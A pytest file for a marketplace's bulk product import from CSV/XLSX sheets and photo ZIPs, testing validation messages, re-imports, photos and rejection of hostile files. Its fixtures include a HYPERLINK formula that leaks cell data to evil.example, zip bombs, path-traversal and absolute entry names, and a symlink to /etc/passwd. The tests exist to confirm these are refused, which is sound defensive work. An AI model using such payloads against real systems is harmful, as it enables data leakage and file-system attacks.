"""Listing products from a spreadsheet and a ZIP of photos (catalog/bulk_import.py): the preview's errors,
the import, re-imports, photos, and every hostile file refused. Files are made here (csv, zipfile,
openpyxl, Pillow)."""
from __future__ import annotations

import csv
import io
import json
import os
import stat
import zipfile

import openpyxl
import pytest
from sqlalchemy import func, select

from catalog import bulk_import
from catalog.bulk_import import ImportFile
from catalog.models import Product
from catalog.search import search_products
from marketplace import pending_photos
from marketplace.errors import DomainError
from marketplace.extensions import db
from marketplace.models import AuditEvent
from marketplace.once import new_key
from marketplace.photos import public_dir
from tests.conftest import jpeg_bytes

HEADER = "nama,harga,satuan,kategori,deskripsi,status,foto,sku"


def csv_file(*rows: str, header: str = HEADER, name: str = "produk.csv") -> ImportFile:
    return ImportFile(name, io.BytesIO(("\n".join((header,) + rows) + "\n").encode()))


def zip_file(files: dict[str, bytes], name: str = "foto.zip") -> ImportFile:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return ImportFile(name, io.BytesIO(out.getvalue()))


def start(member, sheet, photos=None):
    return bulk_import.start_import(member.user, None, sheet, photos)


def plan_of(member, sheet, photos=None):
    return bulk_import.load_plan(member.user, start(member, sheet, photos))


def products_of(member):
    return list(db.session.scalars(select(Product).where(Product.member_id == member.id).order_by(Product.id)))


def pending_left(app) -> list[str]:
    root = pending_photos.pending_root(app.config["MEDIA_ROOT"])
    return sorted(os.listdir(root)) if root.is_dir() else []


# --- the preview ---------------------------------------------------------------------------------------

def test_the_preview_names_row_column_and_what_to_write_for_every_bad_cell(app, make_member, make_category):
    member = make_member()
    make_category("Makanan Ringan")
    plan = plan_of(member, csv_file(
        "Keripik Pisang,15rb,bungkus,makanan ringan,Renyah,terbit,,",
        "Dodol Kandangan,15.5x,pcs,,,,,",
        ",12000,pcs,,,,,",
        "Amplang,Rp20.000,pcs,Minuman Keras,,,,",
        "Kerupuk,12.5,pcs,,,tampilkan sekarang,,",
        "Sambal,0,pcs,,,,,",
    ))
    assert [row.number for row in plan.rows] == [2, 3, 4, 5, 6, 7]
    ok, price, name, category, status_and_cents, zero = plan.rows
    assert ok.ok and ok.price == 15000 and ok.category_name == "Makanan Ringan" and ok.status == "published"
    assert price.errors == ["Baris 3, kolom harga: “15.5x” bukan harga. Tulis jumlah dalam Rupiah, mis. 15000, "
                            "15.000, Rp15.000, 15rb, atau 1,5jt."]
    assert name.errors == ["Baris 4, kolom nama: tulis nama produk."]
    assert category.errors[0].startswith("Baris 5, kolom kategori: tidak ada kategori “Minuman Keras”; tulis salah "
                                         "satu dari: Makanan Ringan")
    assert [e.split(":")[0] for e in status_and_cents.errors] == ["Baris 6, kolom harga", "Baris 6, kolom status"]
    assert zero.errors == ["Baris 7, kolom harga: harga harus lebih dari Rp0 dan paling banyak Rp1.000.000.000."]
    assert (plan.new_count, plan.update_count, plan.error_count) == (1, 0, 5)
    assert products_of(member) == []  # the preview saves nothing


def test_every_money_format_the_shop_accepts_is_a_price(app, make_member):
    member = make_member()
    plan = plan_of(member, csv_file(*[f"Produk {i},\"{typed}\",pcs,,,,," for i, typed in
                                      enumerate(["15rb", "Rp15.000", "15.000", "15000", "15,5rb", "Rp 15.000,-",
                                                 "1,5jt", "15 ribu"])]))
    assert [row.price for row in plan.rows] == [15000, 15000, 15000, 15000, 15500, 15000, 1500000, 15000]
    assert all(row.ok for row in plan.rows)


def test_the_same_product_twice_in_one_file_is_an_error_of_the_second_row(app, make_member):
    member = make_member()
    plan = plan_of(member, csv_file("Keripik Pisang,15000,,,,,,", "keripik  PISANG,16000,,,,,,"))
    assert plan.rows[0].ok
    assert plan.rows[1].errors == ["Baris 3, kolom nama: produk yang sama dengan baris 2; tulis setiap produk "
                                   "sekali saja."]


# --- the import ------------------------------------------------------------------------------------------

def test_valid_rows_are_saved_together_found_by_search_and_audited(app, make_member, make_category):
    member = make_member()
    category = make_category("Makanan Ringan")
    token = start(member, csv_file("Keripik Pisang Kepok,15rb,bungkus 250 g,Makanan Ringan,Renyah,terbit,,",
                                   "Dodol,harga?,pcs,,,,,",
                                   "Amplang Ikan Tenggiri,Rp20.000,,,,published,,AMP-1"))
    result = bulk_import.confirm_import(member.user, token, new_key())
    assert (result.created, result.updated, result.skipped) == (2, 0, 1)
    keripik, amplang = products_of(member)
    assert (keripik.name, keripik.price, keripik.unit, keripik.category_id, keripik.status) == \
        ("Keripik Pisang Kepok", 15000, "bungkus 250 g", category.id, "published")
    assert keripik.published_at is not None
    assert (amplang.price, amplang.unit, amplang.sku) == (20000, "pcs", "AMP-1")
    assert search_products("kripik pisang").ids == [keripik.id]
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "product.import")).one()
    assert event.actor_id == member.user.id
    assert json.loads(event.params) == {"member": member.business_name, "file": "produk.csv", "created": 2,
                                        "updated": 0, "skipped": 1}
    assert pending_left(app) == []  # the kept files are gone once used
    with pytest.raises(DomainError, match="kedaluwarsa"):
        bulk_import.load_plan(member.user, token)


def test_reimporting_the_same_file_updates_the_products_instead_of_adding_them_again(app, make_member, images):
    member = make_member()
    sheet = ("Keripik Pisang,15000,pcs,,,terbit,keripik.jpg,", "Amplang,20000,pcs,,,draft,,")
    photos = {"keripik.jpg": jpeg_bytes(seed=1)}
    first = bulk_import.confirm_import(member.user, start(member, csv_file(*sheet), zip_file(photos)), new_key())
    plan = plan_of(member, csv_file("KERIPIK  pisang,16000,pcs,,,terbit,keripik.jpg,", sheet[1]), zip_file(photos))
    assert [row.updates for row in plan.rows] == [True, True]
    again = bulk_import.confirm_import(member.user, plan.token, new_key())
    assert (first.created, again.created, again.updated) == (2, 0, 2)
    keripik, amplang = products_of(member)
    assert (keripik.name, keripik.price) == ("KERIPIK pisang", 16000)
    assert len(keripik.photos) == 1  # the same photo is not attached twice


def test_an_empty_cell_leaves_an_existing_product_as_it_is(app, make_member, make_product):
    member = make_member()
    product = make_product(member, name="Dodol Kandangan", unit="kotak", description="Manis legit", status="published")
    bulk_import.confirm_import(member.user, start(member, csv_file("dodol kandangan,30rb,,,,,,")), new_key())
    db.session.refresh(product)
    assert (product.price, product.unit, product.description, product.status) == (30000, "kotak", "Manis legit",
                                                                                  "published")


def test_a_sku_finds_the_product_even_when_its_name_changed(app, make_member):
    member = make_member()
    bulk_import.confirm_import(member.user, start(member, csv_file("Keripik Pisang,15000,,,,,,KP-1")), new_key())
    result = bulk_import.confirm_import(
        member.user, start(member, csv_file("Keripik Pisang Kepok 250 g,17000,,,,,,kp-1")), new_key())
    assert (result.created, result.updated) == (0, 1)
    [product] = products_of(member)
    assert (product.name, product.price, product.sku) == ("Keripik Pisang Kepok 250 g", 17000, "KP-1")


def test_another_members_product_of_the_same_name_is_not_touched(app, make_member, make_product):
    member, other = make_member(), make_member()
    theirs = make_product(other, name="Keripik Pisang", price=9000)
    bulk_import.confirm_import(member.user, start(member, csv_file("Keripik Pisang,15000,,,,,,")), new_key())
    db.session.refresh(theirs)
    assert theirs.price == 9000 and len(products_of(member)) == 1


def test_formula_cells_are_kept_as_the_text_typed(app, make_member):
    member = make_member()
    formula = '=HYPERLINK("http://evil.example/?d="&A2;"Klik")'
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows([["nama", "harga", "deskripsi"], [formula, "15000", "=1+1"]])
    sheet = ImportFile("produk.csv", io.BytesIO(out.getvalue().encode("utf-8-sig")))  # Excel in Indonesia: ';'
    bulk_import.confirm_import(member.user, start(member, sheet), new_key())
    [product] = products_of(member)
    assert (product.name, product.description) == (formula, "=1+1")


def test_an_xlsx_workbook_imports_with_number_cells_and_formulas_as_text(app, make_member, tmp_path):
    member = make_member()
    workbook = openpyxl.Workbook()
    workbook.active.append(["Nama Produk", "Harga (Rp)", "Satuan", "Status", "Catatan"])
    workbook.active.append(["Keripik Pisang", 15000, "pcs", "Terbit", "ignored"])
    workbook.active.append(["Dodol", 15500.5, "pcs", None, None])
    workbook.active.append(["=A2&\" besar\"", "=B2*2", "pcs", None, None])
    out = io.BytesIO()
    workbook.save(out)
    plan = plan_of(member, ImportFile("produk.xlsx", io.BytesIO(out.getvalue())))
    assert plan.ignored_columns == ["Catatan"]
    keripik, dodol, formula = plan.rows
    assert keripik.ok and keripik.price == 15000 and keripik.status == "published"
    assert dodol.errors[0].startswith("Baris 3, kolom harga: “15500.5” bukan harga")
    assert formula.name == '=A2&" besar"' and formula.errors[0].startswith("Baris 4, kolom harga: “=B2*2”")


def test_the_template_imports_as_it_is(app, make_member, make_category):
    member = make_member()
    make_category("Makanan Ringan")
    plan = plan_of(member, ImportFile("templat-produk.xlsx", io.BytesIO(bulk_import.template_xlsx())))
    assert [row.name for row in plan.rows] == ["Keripik Pisang Kepok 250 g", "Sambal Bawang 150 ml"]
    assert [row.price for row in plan.rows] == [15000, 22500]
    # Without the ZIP the photo names are the only errors.
    assert [e.split(":")[0] for row in plan.rows for e in row.errors] == ["Baris 2, kolom foto", "Baris 3, kolom foto"]


# --- photos ------------------------------------------------------------------------------------------

def test_photos_in_the_zip_are_attached_in_order_through_the_photo_pipeline(app, make_member, images):
    member = make_member()
    photos = {"foto/sambal-1.jpg": jpeg_bytes(seed=5), "foto/sambal-2.png": images.png(),
              "__MACOSX/foto/._sambal-1.jpg": b"\x00\x05\x16\x07"}
    bulk_import.confirm_import(member.user, start(member, csv_file('Sambal,22000,,,,,"Sambal-1.JPG; sambal-2.png",'),
                                                  zip_file(photos)), new_key())
    [product] = products_of(member)
    assert [(p.position, p.original_ext) for p in product.photos] == [(0, "jpg"), (1, "png")]
    assert (public_dir(app.config["MEDIA_ROOT"]) / product.photos[0].variant_name(320)).is_file()


def test_a_photo_the_pipeline_refuses_is_an_error_of_its_row_only(app, make_member, images):
    member = make_member()
    photos = {"bagus.jpg": jpeg_bytes(seed=2), "teks.jpg": images.text_as_jpg(), "bom.png": images.bomb(),
              "besar.jpg": os.urandom(3 * 1024 * 1024)}  # over the tests' MAX_UPLOAD_MB of 2
    plan = plan_of(member, csv_file("Bagus,15000,,,,,bagus.jpg,", "Teks,15000,,,,,teks.jpg,",
                                    "Bom,15000,,,,,bom.png,", "Besar,15000,,,,,besar.jpg,",
                                    "Hilang,15000,,,,,tidak-ada.jpg,"), zip_file(photos))
    good, text, bomb, big, missing = plan.rows
    assert good.ok and len(good.photos) == 1
    assert text.errors == ["Baris 3, kolom foto: teks.jpg: bukan file gambar JPEG, PNG, atau WebP."]
    assert bomb.errors[0].startswith("Baris 4, kolom foto: bom.png: ukuran gambar terlalu besar")
    assert big.errors == ["Baris 5, kolom foto: besar.jpg: berkas terlalu besar; batasnya 2 MB."]
    assert missing.errors == ["Baris 6, kolom foto: “tidak-ada.jpg” tidak ada di ZIP foto; periksa nama berkasnya."]


def test_photo_names_without_a_zip_are_an_error_of_their_row(app, make_member):
    plan = plan_of(make_member(), csv_file("Bagus,15000,,,,,bagus.jpg,"))
    assert plan.rows[0].errors == ["Baris 2, kolom foto: foto yang disebut di sini memerlukan ZIP foto yang dikirim "
                                   "bersama berkasnya."]


# --- hostile files, refused as a whole ---------------------------------------------------------------------

def _raw_zip(write) -> ImportFile:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        write(archive)
    return ImportFile("foto.zip", io.BytesIO(out.getvalue()))


def _symlink(archive):
    info = zipfile.ZipInfo("foto.jpg")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(info, "/etc/passwd")


def _many(archive):
    for i in range(10_000):
        archive.writestr(f"f{i}.jpg", b"x")


def _lying_sizes() -> ImportFile:
    """A ZIP whose headers say its photo is 1 KB while its data unpacks to 5 MB."""
    data = zip_file({"foto.jpg": b"\xff" * (5 * 1024 * 1024)}).stream.getvalue()
    real = (5 * 1024 * 1024).to_bytes(4, "little")
    return ImportFile("foto.zip", io.BytesIO(data.replace(real, (1024).to_bytes(4, "little"))))


HOSTILE_ARCHIVES = {
    "zip bomb": (lambda: zip_file({"foto.jpg": bytes(20 * 1024 * 1024)}), "zip bomb"),
    "lying sizes": (_lying_sizes, "rusak"),
    "path traversal": (lambda: zip_file({"../../etc/foto.jpg": jpeg_bytes()}), "keluar dari folder"),
    "absolute name": (lambda: zip_file({"/etc/foto.jpg": jpeg_bytes()}), "keluar dari folder"),
    "windows name": (lambda: zip_file({"..\\foto.jpg": jpeg_bytes()}), "keluar dari folder"),
    "symlink": (lambda: _raw_zip(_symlink), "tautan"),
    "10,000 entries": (lambda: _raw_zip(_many), r"terlalu banyak berkas \(10000\)"),
    "nested by name": (lambda: zip_file({"lagi.zip": b"PK\x05\x06" + bytes(18)}), "arsip lain"),
    "nested by content": (lambda: zip_file({"foto.jpg": zip_file({"a.jpg": b"x"}).stream.getvalue()}), "arsip lain"),
    "not a zip": (lambda: ImportFile("foto.zip", io.BytesIO(b"Ini bukan ZIP\n" * 100)), "bukan berkas ZIP"),
}


@pytest.mark.parametrize("case", HOSTILE_ARCHIVES, ids=list(HOSTILE_ARCHIVES))
def test_a_hostile_archive_is_refused_with_a_message_and_nothing_is_kept(app, make_member, case):
    build, says = HOSTILE_ARCHIVES[case]
    member = make_member()
    with pytest.raises(DomainError, match=says) as refused:
        start(member, csv_file("Bagus,15000,,,,,foto.jpg,"), build())
    assert refused.value.field == "photos"
    assert pending_left(app) == []


def test_an_archive_unpacking_to_more_than_its_budget_is_refused(app, make_member):
    app.config["IMPORT_MAX_ZIP_MB"] = 1
    photos = {f"f{i}.jpg": os.urandom(600 * 1024) for i in range(2)}  # incompressible: no bomb ratio
    with pytest.raises(DomainError, match="lebih dari 1 MB"):
        start(make_member(), csv_file("Bagus,15000,,,,,f0.jpg,"), zip_file(photos))


def test_a_file_over_the_row_limit_is_refused(app, make_member):
    rows = [f"Produk {i},15000,,,,,," for i in range(1001)]
    with pytest.raises(DomainError, match="lebih dari 1000 baris"):
        start(make_member(), csv_file(*rows))
    assert pending_left(app) == []


def test_an_xlsx_that_is_a_zip_bomb_is_refused_before_it_is_opened(app, make_member):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (60 * 1024 * 1024))
    with pytest.raises(DomainError, match="lebih dari 50 MB") as refused:
        start(make_member(), ImportFile("produk.xlsx", io.BytesIO(out.getvalue())))
    assert refused.value.field == "sheet"


@pytest.mark.parametrize("name, data, says", [
    ("produk.xls", b"\xd0\xcf\x11\xe0", "CSV atau XLSX"),
    ("produk.xlsx", b"bukan zip", "bukan berkas ZIP"),
    ("produk.csv", b"judul,isi\nsatu,dua\n", "kolom nama, harga tidak ada"),
])
def test_a_spreadsheet_that_cannot_be_used_is_refused_as_a_whole(app, make_member, name, data, says):
    with pytest.raises(DomainError, match=says):
        start(make_member(), ImportFile(name, io.BytesIO(data)))


# --- acting once, and whose import it is ------------------------------------------------------------------

def test_confirming_twice_with_the_same_key_saves_once(app, make_member):
    member = make_member()
    token, key = start(member, csv_file("Keripik,15000,,,,,,", "Dodol,20000,,,,,,")), new_key()
    first = bulk_import.confirm_import(member.user, token, key)
    second = bulk_import.confirm_import(member.user, token, key)
    assert first == second and len(products_of(member)) == 2


def test_confirming_at_the_same_moment_saves_once(app, make_member, at_once):
    member = make_member()
    token, key, user_id = start(member, csv_file("Keripik,15000,,,,,,", "Dodol,20000,,,,,,")), new_key(), member.user.id

    def confirm():
        from marketplace.models import User

        return bulk_import.confirm_import(db.session.get(User, user_id), token, key)

    results = at_once(confirm, confirm)
    assert results[0] == results[1] and results[0].created == 2, results
    assert db.session.scalar(select(func.count(Product.id)).where(Product.member_id == member.id)) == 2


def test_an_import_belongs_to_the_user_who_uploaded_it(app, make_member, make_user):
    member = make_member()
    token = start(member, csv_file("Keripik,15000,,,,,,"))
    for other in (make_member().user, make_user("pengurus")):
        with pytest.raises(DomainError, match="kedaluwarsa"):
            bulk_import.load_plan(other, token)
        with pytest.raises(DomainError):
            bulk_import.confirm_import(other, token, new_key())
    assert products_of(member) == []


def test_pengurus_imports_for_the_member_chosen_and_must_choose_one(app, make_member, make_user):
    member, pengurus = make_member(), make_user("pengurus")
    with pytest.raises(DomainError):
        bulk_import.start_import(pengurus, None, csv_file("Keripik,15000,,,,,,"))
    token = bulk_import.start_import(pengurus, member.id, csv_file("Keripik,15000,,,,,,"))
    bulk_import.confirm_import(pengurus, token, new_key())
    assert [p.name for p in products_of(member)] == ["Keripik"]


def test_row_numbers_are_the_spreadsheets_own_around_empty_rows(app, make_member):
    sheet = ImportFile("produk.csv", io.BytesIO(b"\n,\nnama,harga\nKeripik,1x\n\nDodol,2x\n"))
    plan = plan_of(make_member(), sheet)
    assert [row.errors[0].split(":")[0] for row in plan.rows] == ["Baris 4, kolom harga", "Baris 6, kolom harga"]


def test_photos_are_prepared_in_batches_and_the_import_waits_for_the_last(app, make_member):
    app.config["IMPORT_BATCH_SECONDS"] = 0  # one photo a request
    member = make_member()
    rows = [f"Produk {i},15000,,,,,foto-{i}.jpg," for i in range(3)]
    token = start(member, csv_file(*rows), zip_file({f"foto-{i}.jpg": jpeg_bytes(seed=i) for i in range(3)}))
    plan = bulk_import.load_plan(member.user, token)
    assert (plan.photos_total, plan.photos_left) == (3, 2)
    assert all(row.ok for row in plan.rows)  # a photo not checked yet is no error
    with pytest.raises(DomainError, match=r"masih diperiksa \(2 dari 3"):
        bulk_import.confirm_import(member.user, token, new_key())
    assert bulk_import.continue_import(member.user, token) == (2, 3)
    assert bulk_import.continue_import(member.user, token) == (3, 3)
    assert bulk_import.continue_import(member.user, token) == (3, 3)  # nothing left: harmless
    result = bulk_import.confirm_import(member.user, token, new_key())
    assert result.created == 3 and all(len(p.photos) == 1 for p in products_of(member))
    assert pending_left(app) == []


def test_a_hostile_entry_found_in_a_later_batch_removes_the_whole_import(app, make_member):
    app.config["IMPORT_BATCH_SECONDS"] = 0
    member = make_member()
    nested = zip_file({"a.jpg": b"x"}).stream.getvalue()
    token = start(member, csv_file("Satu,15000,,,,,satu.jpg,", "Dua,15000,,,,,dua.jpg,"),
                  zip_file({"satu.jpg": jpeg_bytes(), "dua.jpg": nested}))
    with pytest.raises(DomainError, match="arsip lain"):
        bulk_import.continue_import(member.user, token)
    assert pending_left(app) == []
